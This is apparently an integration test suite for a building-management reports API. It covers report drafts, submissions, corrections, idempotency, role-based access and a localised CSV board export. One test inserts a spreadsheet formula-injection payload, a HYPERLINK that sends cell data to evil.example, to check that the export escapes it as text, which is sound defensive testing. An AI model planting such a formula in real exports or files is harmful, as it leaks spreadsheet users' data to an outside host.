// The reports API on the real app and PostgreSQL: the organization saves, submits and corrects
// (Idempotency-Key on each write, a replay answering the same report, a reused key with another
// body 409); owners, the district's council and inspection read the submitted report and the
// board; everyone else gets 401/403; bad input is problem+json naming the field (a quarter not
// begun, a building the organization does not manage, a work dated outside the quarter).
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Orm } from '../../db/orm.ts';
import { stopForMissingReport } from '../../db/reports/repository.ts';
import { formatDecimalSom } from '../../domain/billing/money.ts';
import { tashkentDate } from '../../domain/calendar/working-days.ts';
import { DEFAULT_REPORT_POLICY } from '../../domain/reports/policy.ts';
import { deadlineAt, firstDayOf, quarterOf } from '../../domain/reports/quarters.ts';
import { accrueMonth } from '../billing/month.ts';
import { call, newKey, ok, problem } from '../support/api-client.ts';
import { createTestApp, type TestApp } from '../support/app.ts';
import { type ManagedBuilding, managedBuilding, workContent } from './fixtures.ts';

let app: TestApp;
let b: ManagedBuilding;
let other: ManagedBuilding;
const tokens: Record<string, string> = {};
const now = () => Date.now();
const QUARTER = quarterOf(tashkentDate(now()));
const DONE_ON = firstDayOf(QUARTER);

const sign = (roles: string[], claims: { pid?: string; org?: string; district?: string } = {}) =>
  app.deps.dev!.issuer.sign({
    sub: randomUUID(),
    name: `Test ${roles[0] ?? 'nobody'}`,
    pid: claims.pid ?? null,
    roles,
    org: claims.org ?? null,
    district: claims.district ?? null,
  });

beforeAll(async () => {
  app = await createTestApp();
  const orm = app.deps.orm as Orm;
  [b, other] = [await managedBuilding(orm), await managedBuilding(orm)];
  tokens.staff = await sign(['management_company'], { org: b.organizationId });
  tokens.otherStaff = await sign(['management_company'], { org: other.organizationId });
  tokens.owner = await sign(['resident'], { pid: b.ownerIds[0]! });
  tokens.otherOwner = await sign(['resident'], { pid: other.ownerIds[0]! });
  tokens.council = await sign(['council'], { district: b.districtId });
  tokens.inspector = await sign(['inspector'], { district: b.districtId });
  tokens.otherCouncil = await sign(['council'], { district: other.districtId });
  tokens.roleless = await sign([]);
});
afterAll(async () => {
  await app?.close();
});

const at = (building: ManagedBuilding, quarter: string = QUARTER) =>
  `/reports/buildings/${building.buildingId}/quarters/${quarter}`;

describe('the organization’s report', () => {
  it('saves a draft, submits it frozen, corrects it as a new version; a replay answers the same, a reused key 409', async () => {
    const draftKey = newKey();
    const draft = await ok<{ status: string; draft: unknown }>(
      await call(app, 'POST', `${at(b)}/draft`, {
        token: tokens.staff,
        key: draftKey,
        body: workContent(DONE_ON),
      }),
    );
    expect(draft.status).toBe('draft');
    // The same key and body: the same answer, nothing written twice.
    await ok(
      await call(app, 'POST', `${at(b)}/draft`, {
        token: tokens.staff,
        key: draftKey,
        body: workContent(DONE_ON),
      }),
    );
    await problem(
      await call(app, 'POST', `${at(b)}/draft`, {
        token: tokens.staff,
        key: draftKey,
        body: workContent(DONE_ON, 1),
      }),
      409,
    );
    // Owners do not see a draft, not even in the building's list; its organization finds it there.
    await problem(await call(app, 'GET', at(b), { token: tokens.owner }), 404);
    const listed = async (token: string | undefined) =>
      (
        await ok<{ items: { quarter: string; status: string }[] }>(
          await call(app, 'GET', `/reports/buildings/${b.buildingId}`, { token }),
        )
      ).items.filter((r) => r.quarter === QUARTER);
    expect(await listed(tokens.owner)).toEqual([]);
    expect(await listed(tokens.council)).toEqual([]);
    expect(await listed(tokens.staff)).toEqual([expect.objectContaining({ status: 'draft' })]);

    const submitted = await ok<{ status: string; late: boolean; versions: { version: number }[] }>(
      await call(app, 'POST', `${at(b)}/submission`, { token: tokens.staff, key: newKey() }),
    );
    expect(submitted).toMatchObject({ status: 'submitted', late: false, versions: [{ version: 1 }] });
    await problem(
      await call(app, 'POST', `${at(b)}/draft`, {
        token: tokens.staff,
        key: newKey(),
        body: workContent(DONE_ON),
      }),
      409,
    );

    const corrected = await ok<{
      id: string;
      versions: { version: number; reason: string | null; totalCostTiyin: number }[];
    }>(
      await call(app, 'POST', `${at(b)}/corrections`, {
        token: tokens.staff,
        key: newKey(),
        body: { ...workContent(DONE_ON, 1_000_000_00), reason: 'the invoice was lower' },
      }),
    );
    expect(corrected.versions.map((v) => [v.version, v.reason, v.totalCostTiyin])).toEqual([
      [1, null, 1_250_000_00 + 430_000_00],
      [2, 'the invoice was lower', 1_000_000_00 + 430_000_00],
    ]);

    // Its history (draft, submission, correction) holds against its hash chain, for an owner too.
    expect(
      await ok(
        await call(app, 'GET', `/audit/reports/${corrected.id}/verification`, { token: tokens.owner }),
      ),
    ).toMatchObject({ valid: true, rows: 3 });
    await problem(
      await call(app, 'GET', `/audit/reports/${corrected.id}/verification`, { token: tokens.otherOwner }),
      403,
    );

    for (const token of [tokens.owner, tokens.council, tokens.inspector]) {
      const r = await ok<{ versions: unknown[]; draft: unknown }>(await call(app, 'GET', at(b), { token }));
      expect(r.versions).toHaveLength(2);
      expect(r.draft).toBeNull();
    }
    const list = await ok<{ items: { quarter: string; versions: number }[] }>(
      await call(app, 'GET', `/reports/buildings/${b.buildingId}`, { token: tokens.owner }),
    );
    expect(list.items).toEqual([expect.objectContaining({ quarter: QUARTER, versions: 2 })]);
    const board = await ok<{ items: { buildingId: string; status: string }[] }>(
      await call(app, 'GET', `/reports/districts/${b.districtId}/board?quarter=${QUARTER}`, {
        token: tokens.council,
      }),
    );
    expect(board.items).toEqual([
      expect.objectContaining({ buildingId: b.buildingId, status: 'submitted', late: false }),
    ]);
  });
});

describe('the contributions lost to suspension', () => {
  it('shows per building what the suspended months would have been charged, on the board and in its CSV', async () => {
    const orm = app.deps.orm as Orm;
    const lost = await managedBuilding(orm);
    for (const m of ['2027-01', '2027-02', '2027-03']) await accrueMonth(orm, lost.districtId, m);
    await stopForMissingReport(orm.em.fork(), {
      buildingId: lost.buildingId,
      quarter: '2027-Q1',
      policy: DEFAULT_REPORT_POLICY,
      requestId: 'deadline',
      now: deadlineAt('2027-Q1', DEFAULT_REPORT_POLICY) + 60_000,
    });
    for (const m of ['2027-04', '2027-05']) await accrueMonth(orm, lost.districtId, m);
    // An open month's charge on the ledger is what each closed month would have been.
    const [open] = await orm.em
      .fork()
      .execute<{ total: string }[]>(
        `select sum(amount)::text as total from ledger_transfer where building_id = ? and kind = 'accrual' and period = '2027-03'`,
        [lost.buildingId],
      );
    const month = Number(open!.total);
    expect(month).toBe(7_500_000 + 9_360_000);

    const council = await sign(['council'], { district: lost.districtId });
    const inspector = await sign(['inspector'], { district: lost.districtId });
    const board = await ok<{ items: { buildingId: string; lostMonths: unknown; lostTiyin: number }[] }>(
      await call(app, 'GET', `/reports/districts/${lost.districtId}/board?quarter=2027-Q1`, {
        token: council,
      }),
    );
    expect(board.items).toEqual([
      expect.objectContaining({
        buildingId: lost.buildingId,
        status: 'due',
        lostMonths: [
          { period: '2027-04', amountTiyin: month },
          { period: '2027-05', amountTiyin: month },
        ],
        lostTiyin: 2 * month,
      }),
    ]);

    // In the reader's language: `?lang=` first, then Accept-Language, else Uzbek.
    const boardCsv = async (query: string, headers: Record<string, string> = {}) => {
      const res = await call(
        app,
        'GET',
        `/reports/districts/${lost.districtId}/board.csv?quarter=2027-Q1${query}`,
        {
          token: inspector,
          headers,
        },
      );
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
      return (await res.text())
        .replace(/^\ufeff/, '')
        .trim()
        .split(/\r?\n/);
    };
    const lines = await boardCsv('&lang=en', { 'Accept-Language': 'ru' });
    expect(lines[0]).toBe(
      'Building ID,Address,Management organization,Management organization ID,Report,Late,Submitted (Tashkent time),Months without contributions,Months held back,Accrual resumed from,Months lost,Lost (UZS)',
    );
    expect(lines).toHaveLength(2);
    const [org] = await orm.em
      .fork()
      .execute<{ name: string }[]>('select name from management_organization where id = ?', [
        lost.organizationId,
      ]);
    // The name as CSV quotes it when it holds quotes of its own.
    const quoted = org!.name.includes('"') ? `"${org!.name.replaceAll('"', '""')}"` : org!.name;
    expect(lines[1]).toContain(`,${quoted},${lost.organizationId},`);
    expect(lines[1]).toContain(lost.buildingId);
    expect(lines[1]).toContain(',Not reported,');
    expect(lines[1]!.endsWith(`,2027-04 2027-05,${formatDecimalSom(2 * month)}`)).toBe(true);
    const ru = await boardCsv('', { 'Accept-Language': 'ru-RU,ru;q=0.9' });
    expect(ru[0]!.startsWith('Идентификатор дома,Адрес,')).toBe(true);
    expect(ru[1]).toContain(',Отчёт не сдан,');
    const uz = await boardCsv('');
    expect(uz[0]!.startsWith('Bino identifikatori,Manzil,')).toBe(true);
    expect(uz[1]).toContain(',Hisobot berilmagan,');
    // What a spreadsheet would run as a formula comes out as text (api/csv.ts), in any cell.
    const attack = '=HYPERLINK("http://evil.example/?d="&A2,"Manzil")';
    await orm.em.fork().execute('update building set address = ? where id = ?', [attack, lost.buildingId]);
    const [, escaped] = await boardCsv('&lang=en');
    expect(
      escaped!.startsWith(`${lost.buildingId},"'=HYPERLINK(""http://evil.example/?d=""&A2,""Manzil"")",`),
    ).toBe(true);

    // A building of another district with a report in time lost nothing.
    const others = await ok<{ items: { lostTiyin: number; lostMonths: unknown[] }[] }>(
      await call(app, 'GET', `/reports/districts/${b.districtId}/board?quarter=${QUARTER}`, {
        token: tokens.council,
      }),
    );
    for (const r of others.items) expect(r).toMatchObject({ lostTiyin: 0, lostMonths: [] });

    // Who may: 401 without a token, 403 to other roles and to another district's council.
    const csv = `/reports/districts/${lost.districtId}/board.csv?quarter=2027-Q1`;
    await problem(await call(app, 'GET', csv), 401);
    for (const token of [tokens.owner, tokens.staff, tokens.otherCouncil, tokens.council])
      await problem(await call(app, 'GET', csv, { token }), 403);
    await problem(
      await call(app, 'GET', `/reports/districts/${lost.districtId}/board.csv?quarter=2027-5`, {
        token: council,
      }),
      400,
      'query.quarter',
    );
  });
});

describe('who may', () => {
  it('answers 401 without a token and 403 to the wrong role or scope', async () => {
    await problem(
      await call(app, 'POST', `${at(b)}/draft`, { key: newKey(), body: workContent(DONE_ON) }),
      401,
    );
    await problem(await call(app, 'GET', at(b)), 401);
    // A token with no role the API knows is no identity at all.
    await problem(await call(app, 'GET', at(b), { token: tokens.roleless }), 401);
    for (const token of [tokens.owner, tokens.council, tokens.inspector])
      await problem(
        await call(app, 'POST', `${at(b)}/draft`, { token, key: newKey(), body: workContent(DONE_ON) }),
        403,
      );
    // Another organization's staff on this building: scope before state, nothing written.
    await problem(
      await call(app, 'POST', `${at(b)}/submission`, { token: tokens.otherStaff, key: newKey() }),
      403,
      'path.id',
    );
    for (const token of [tokens.otherOwner, tokens.otherCouncil, tokens.otherStaff])
      await problem(await call(app, 'GET', `/reports/buildings/${b.buildingId}`, { token }), 403);
    for (const token of [tokens.otherCouncil, tokens.owner, tokens.staff])
      await problem(
        await call(app, 'GET', `/reports/districts/${b.districtId}/board?quarter=${QUARTER}`, { token }),
        403,
      );
  });
});

describe('bad input', () => {
  it('names the field: a quarter not begun, a work outside the quarter, a bad kind, a missing key, a bad quarter', async () => {
    const next = `${Number(QUARTER.slice(0, 4)) + 1}-Q1`;
    await problem(
      await call(app, 'POST', `${at(other, next)}/draft`, {
        token: tokens.otherStaff,
        key: newKey(),
        body: { works: [], note: '' },
      }),
      400,
      { field: 'path.quarter', detail: 'has not begun' },
    );
    await problem(
      await call(app, 'POST', `${at(other)}/draft`, {
        token: tokens.otherStaff,
        key: newKey(),
        body: workContent('2020-01-01'),
      }),
      400,
      'body.works.0.doneOn',
    );
    const bad = workContent(DONE_ON);
    (bad.works[0] as { kind: string }).kind = 'urgent';
    await problem(
      await call(app, 'POST', `${at(other)}/draft`, { token: tokens.otherStaff, key: newKey(), body: bad }),
      400,
    );
    await problem(await call(app, 'POST', `${at(other)}/submission`, { token: tokens.otherStaff }), 400);
    await problem(
      await call(app, 'POST', `/reports/buildings/${other.buildingId}/quarters/2026-Q5/submission`, {
        token: tokens.otherStaff,
        key: newKey(),
      }),
      400,
    );
    // A submission with no draft is a conflict of state, not a server error.
    await problem(
      await call(app, 'POST', `${at(other)}/submission`, { token: tokens.otherStaff, key: newKey() }),
      409,
    );
    const [n] = await (app.deps.orm as Orm).em
      .fork()
      .execute<{ n: number }[]>(
        `select count(*)::int as n from report_version v join report r on r.id = v.report_id where r.building_id = ?`,
        [other.buildingId],
      );
    expect(n!.n).toBe(0);
  });
});
